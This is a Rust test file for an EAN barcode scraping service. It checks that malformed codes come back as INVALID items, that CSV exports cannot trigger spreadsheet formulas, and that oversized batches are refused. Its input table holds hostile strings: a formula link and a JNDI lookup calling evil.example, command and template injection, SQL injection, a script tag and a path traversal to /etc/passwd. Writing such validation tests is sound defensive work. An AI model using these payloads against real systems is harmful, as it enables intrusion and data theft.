//! Codes that are none: an INVALID item each, echoed as it came and harmless in a spreadsheet.

use glaneur::Code;
use glaneur::serve::proto::job_service_client::JobServiceClient;
use glaneur::serve::proto::{Item, ScrapeRequest};
use serde_json::json;
use tonic::Code as Grpc;

use super::is_well;
use crate::house::{Answer, House, client};

fn table() -> Vec<String> {
    let mut codes: Vec<String> = [
        "",
        " ",
        "٠٧٤٨٣٢٢١٤٨٤٧٤",
        "０７４８３２２１４８４７４",
        "𝟎𝟕𝟒𝟖𝟑𝟐𝟐𝟏𝟒𝟖𝟒𝟕𝟒",
        "०७४८३२२१४८४७४",
        "0748322148475",
        "07483221484740",
        "074832214847",
        "0748322148474\0",
        "\u{1b}[2J0748322148474",
        "\u{202e}4748412238470",
        "0748322148474;0748322148474",
        "0748322148474,5",
        "0748322148474e0",
        "+0748322148474",
        "=HYPERLINK(\"http://evil.example\";\"0748322148474\")",
        "@SUM(1)",
        "-1+1|cmd",
        "\t=1",
        "={{ $env.SECRET }}",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "null byte\0here",
        "NaN",
        "\u{feff}",
        "0x2B8F5E2A4A",
    ]
    .map(str::to_owned)
    .to_vec();
    codes.push("9".repeat(1 << 20));
    codes.push("é".repeat(1 << 18));
    codes
}

#[tokio::test]
async fn what_is_no_barcode_is_an_invalid_item() {
    let codes = table();
    for code in &codes {
        assert!(matches!(Code::parse(code), Code::Invalid { .. }), "{:?}", &code[..code.len().min(40)]);
    }
    let house = House::open().await;
    let answer = Answer::of(client().post(house.url("/api/scrape")).body(json!({ "eans": codes }).to_string())).await;
    assert_eq!(answer.status, 202, "{}", answer.json);
    let job = house.url(&format!("/api/jobs/{}", answer.text("job_id")));
    client().get(format!("{job}/events")).send().await.unwrap().text().await.unwrap();
    let results = Answer::of(client().get(format!("{job}/results"))).await;
    let results = results.json["results"].as_array().unwrap().clone();
    assert_eq!(results.len(), codes.len());
    for (result, code) in results.iter().zip(&codes) {
        assert_eq!(result["status"], "INVALID", "{result}");
        let given = result["ean"].as_str().unwrap();
        assert!(code.starts_with(given) || given.len() <= code.len() + 3, "{given:?}");
    }
    let sheet = client().get(format!("{job}/results?format=csv")).send().await.unwrap().text().await.unwrap();
    let mut rows = csv::ReaderBuilder::new().delimiter(b';').from_reader(sheet.trim_start_matches('\u{feff}').as_bytes());
    let mut seen = 0;
    for row in rows.records() {
        for cell in &row.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
        }
        seen += 1;
    }
    assert_eq!(seen, codes.len());
    assert!(is_well(&house).await);
}

#[tokio::test]
async fn a_million_copies_are_refused_at_both_doors() {
    let house = House::open().await;
    let million = format!(r#"{{"eans":[{}1]}}"#, "1,".repeat(999_999));
    let answer = Answer::of(client().post(house.url("/api/scrape")).body(million)).await;
    assert_eq!((answer.status, answer.text("error")), (413, "too_large"), "{}", answer.json);
    let item = Item { primary: "0748322148474".to_owned(), replacement: None };
    let request = |count| ScrapeRequest { eans: vec![item.clone(); count], ..ScrapeRequest::default() };
    let mut client = JobServiceClient::new(house.channel().await);
    assert_eq!(client.create_job(request(1_000_000)).await.unwrap_err().code(), Grpc::ResourceExhausted);
    assert_eq!(client.create_job(request(500_000)).await.unwrap_err().code(), Grpc::InvalidArgument);
    assert!(is_well(&house).await);
}
